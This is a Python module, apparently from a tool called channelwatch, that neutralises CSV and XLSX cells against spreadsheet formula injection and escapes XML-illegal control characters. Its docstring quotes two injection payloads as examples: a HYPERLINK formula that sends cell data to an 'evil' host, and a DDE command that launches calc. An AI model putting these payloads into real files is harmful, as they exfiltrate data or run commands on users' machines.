"""Cells that a spreadsheet shows as text and never runs: every CSV and XLSX channelwatch writes.

A title such as ``=HYPERLINK("http://evil/?"&A1,"点击")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` is
data, but Excel and WPS run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a leading tab
or carriage return hides such a start). Such text cells get a leading single quote, as the OWASP
"CSV injection" advice recommends; numbers stay numbers. openpyxl would even store a string that
starts with ``=`` as a formula, so XLSX needs it as much as CSV.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

__all__ = [
    "csv_text",
    "neutralise",
    "neutralise_row",
    "neutralise_workbook",
    "save_workbook",
    "write_csv",
    "xlsx_row",
    "xlsx_value",
    "xml_text",
]

_ACTIVE_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a cell: text that a spreadsheet would run gets a leading ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(_ACTIVE_START):
        return "'" + value
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


# XML 1.0 cannot hold these control characters: openpyxl refuses the whole workbook (IllegalCharacterError).
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def xml_text(text: str) -> str:
    """``text`` for an Office Open XML file (XLSX, DOCX): control characters XML 1.0 cannot hold as ``\\x1b``."""
    return _NOT_IN_XML.sub(lambda found: f"\\x{ord(found.group()):02x}", text)


def xlsx_value(value: Any) -> Any:
    """A value for an openpyxl cell: neutralised, and control characters XLSX cannot store written as ``\\x1b``."""
    if isinstance(value, str):
        value = xml_text(value)
    return neutralise(value)


def xlsx_row(row: Iterable[Any]) -> list[Any]:
    return [xlsx_value(value) for value in row]


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    """Rows as CSV text (``\\n`` line ends), every cell neutralised."""
    buffer = io.StringIO()
    plain = csv.writer(buffer, lineterminator="\n")
    # With "\n" line ends the csv module leaves a lone "\r" unquoted, and readers end the row there.
    quoted = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)
    for row in rows:
        cells = neutralise_row(row)
        (quoted if any(isinstance(c, str) and "\r" in c for c in cells) else plain).writerow(cells)
    return buffer.getvalue()


def write_csv(target: Path, rows: Iterable[Sequence[Any]]) -> None:
    """Rows to a CSV file in UTF-8 with BOM (so that Chinese Excel opens it), every cell neutralised."""
    with target.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows(neutralise_row(row) for row in rows)


def save_workbook(workbook: Any, target: Any) -> None:
    """Neutralise every cell, then save to ``target`` (a path or a binary file object).

    A path is written in one piece from memory: openpyxl writing straight into a file that fails
    half-way (disk full) leaves an open zip file whose clean-up prints a traceback at exit.
    """
    neutralise_workbook(workbook)
    if not isinstance(target, str | Path):
        workbook.save(target)
        return
    buffer = io.BytesIO()
    workbook.save(buffer)
    Path(target).write_bytes(buffer.getvalue())


def neutralise_workbook(workbook: Any) -> None:
    """Every text cell of an openpyxl workbook neutralised; call it just before ``save``.

    openpyxl marks a string that starts with ``=`` as a formula when it is assigned; assigning the
    quoted text again makes it a plain string cell.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(_ACTIVE_START):
                    cell.value = "'" + value
